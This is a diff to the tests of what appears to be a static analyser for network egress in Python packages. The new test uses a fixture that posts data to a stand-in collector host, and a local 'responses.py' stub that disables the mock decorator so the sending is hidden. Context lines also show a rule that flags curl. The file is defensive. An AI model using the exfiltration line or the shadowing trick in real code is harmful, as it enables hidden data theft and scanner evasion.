@@ -6,6 +6,7 @@ import { before, test } from 'node:test';
 import { initAnalysis } from '../../src/analysis/api.ts';
 import { analyzePythonFile } from '../../src/analysis/python-file.ts';
 import type { Finding } from '../../src/model/result.ts';
+import { analyseFiles } from './in-memory-target.ts';
 
 before(() => initAnalysis());
 
@@ -327,4 +328,20 @@ test("pip download a user's call runs is a package tool's own work (low), yet eg
   assert.equal(verdict, true, 'the process reaches the network');
   const curl = ruleOf(findings(source('"curl", "-o", folder, dist')), 'process-network-tool');
   assert.equal(curl?.severity, 'medium');
+});
+
+test('a target that ships its own responses module gets no mock exemption: its decorator may do nothing', async () => {
+  const sender = [
+    'import requests, responses',
+    '@responses.activate',
+    'def send(data):',
+    '    requests.post("https://collector.example.invalid/in", data=data)',
+  ].join('\n');
+  const alone = await analyseFiles({ 'pkg/sender.py': sender });
+  assert.equal(alone.files[0].egress, false, 'the real responses library intercepts the call');
+  const shadowed = await analyseFiles({
+    'pkg/sender.py': sender,
+    'responses.py': 'def activate(fn):\n    return fn\n',
+  });
+  assert.equal(shadowed.files.find((file) => file.path === 'pkg/sender.py')?.egress, true);
 });
